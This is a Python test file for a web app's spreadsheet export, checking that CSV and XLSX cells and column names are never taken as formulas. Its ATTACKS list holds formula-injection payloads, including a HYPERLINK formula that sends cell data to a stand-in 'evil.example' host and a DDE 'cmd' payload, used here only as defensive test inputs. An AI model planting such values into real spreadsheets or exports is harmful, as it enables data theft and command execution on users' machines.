"""Nothing that somebody types becomes a formula in the spreadsheet of somebody else."""

import csv
import io
import re

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from shidra.exchange.workbook.formulas import neutralise, parted, restored, unparted
from shidra.exchange.workbook.writing import write_spreadsheet
from shidra.initiatives.models import Initiative, Place
from shidra.network.models import Promise
from tests.personas import signed_in
from tests.records.browsing import Desk, number_of

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(A1)",
    "|calc",
    "%0A=1+1",
    "\u200f=1+1",
]
STARTS = tuple("=+-@|%\uff1d\uff0b\uff0d\uff20")


def computes(text: str) -> bool:
    """Whether a spreadsheet might take the cell for a formula, whatever blanks stand before it."""
    return text.lstrip(" \t\r\n\u200e\u200f\u2066\u2067\u2069\ufeff").startswith(STARTS)


@pytest.fixture
def desk(ready_together: Initiative) -> Desk:
    return Desk(signed_in("backbone", ready_together), ready_together)


def sheet(desk: Desk, table: str, kind: str) -> list[list[str]]:
    content = desk.get(f"{table}/list.{kind}").content
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    rows = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
    cells = [list(row) for row in rows]
    assert all(cell.data_type != "f" for row in cells for cell in row)
    return [[str(cell.value or "") for cell in row] for row in cells]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_of_a_list_is_never_computed(desk, ready_together, attack, kind):
    path = f"promises/{number_of(ready_together, 'promises', 'PR01')}/"
    promise = Promise.objects.get(code="PR01")
    promise.leader = attack[:100]
    promise.save(update_fields=["leader"])
    assert desk.get(path)
    header, *rows = sheet(desk, "promises", kind)
    assert not [cell for row in rows for cell in row if computes(cell)]
    (told,) = [row[header.index("leader")] for row in rows if row[0] == "PR01"]
    assert attack.strip()[1:6] in told


PARTED = [
    "x;=1+1",
    "x; =1+1",
    'x;"=1+1"',
    "x\t@SUM(A1:A9)",
    "first line\n=1+1",
    "first line\r\n- second",
    "x;'=1+1",
    "x;\u200f\uff1d1+1",
]


@pytest.mark.parametrize("attack", PARTED)
def test_nor_is_a_part_of_it_where_a_spreadsheet_is_set_to_semicolons(desk, ready_together, attack):
    promise = Promise.objects.get(code="PR01")
    promise.leader = attack
    promise.save(update_fields=["leader"])
    text = desk.get("promises/list.csv").content.decode("utf-8-sig")
    assert "x;" in text or "x\t" in text or "first line" in text
    for by in (";", "\t"):
        for parts in (
            [part for line in text.splitlines() for part in line.split(by)],
            [p for row in csv.reader(io.StringIO(text, newline=""), delimiter=by) for p in row],
        ):
            assert not [part for part in parts if computes(part.lstrip(' "'))]


@pytest.mark.parametrize(
    "words", [*(each for each in PARTED if "\t" not in each), "one\n- two\n- three", "x;'tis"]
)
def test_words_that_were_parted_come_back_as_they_were(desk, ready_together, words):
    Promise.objects.filter(code="PR01").update(leader=words)
    told = desk.get("promises/list.csv").content.decode("utf-8-sig")
    Promise.objects.filter(code="PR01").update(leader="")
    desk.post("promises/paste/", {"rows": told, "act": "save"}, status=302)
    assert Promise.objects.get(code="PR01").leader.split() == words.split()


@given(st.text(";\t\r\n'= -@\"x\u200f\uff1d\u00a0", max_size=12))
def test_any_text_comes_back_from_a_file_as_it_was(text):
    written = parted(neutralise(text))
    assert restored(unparted(written)) == text
    for part in re.split("[;\t\r\n]", written)[1:]:
        assert not computes(part.lstrip(' "\u200f\u00a0'))


@pytest.mark.parametrize("words", ["one\n- two", "x;'=1+1", "x;=1+1"])
def test_in_a_spreadsheet_words_are_told_as_they_are_and_read_back(words):
    file = io.BytesIO()
    write_spreadsheet({"promises": [{"leader": words}]}, file, "he")
    cell = openpyxl.load_workbook(file).worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert unparted(cell.value) == words
    assert (cell.value == words) is ("'" not in words)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_nor_is_the_name_of_a_column_of_ones_own(desk, ready_together, kind):
    place = Place.objects.filter(initiative=ready_together)[0]
    place.attributes = {"=1+1": "ערך", "@SUM(A1)": "ערך"}
    place.save(update_fields=["attributes"])
    header, *_rows = sheet(desk, "places", kind)
    assert not [title for title in header if computes(title)]
    assert "'=1+1" in header


def test_a_file_that_was_taken_along_loads_again_under_the_same_names(desk, ready_together):
    place = Place.objects.filter(initiative=ready_together)[0]
    place.attributes = {"=1+1": "=2+2"}
    place.save(update_fields=["attributes"])
    told = desk.get("places/list.csv").content.decode("utf-8-sig")
    Place.objects.filter(pk=place.pk).update(attributes={})
    desk.post("places/paste/", {"rows": told, "act": "save"}, status=302)
    place.refresh_from_db()
    assert place.attributes == {"=1+1": "=2+2"}
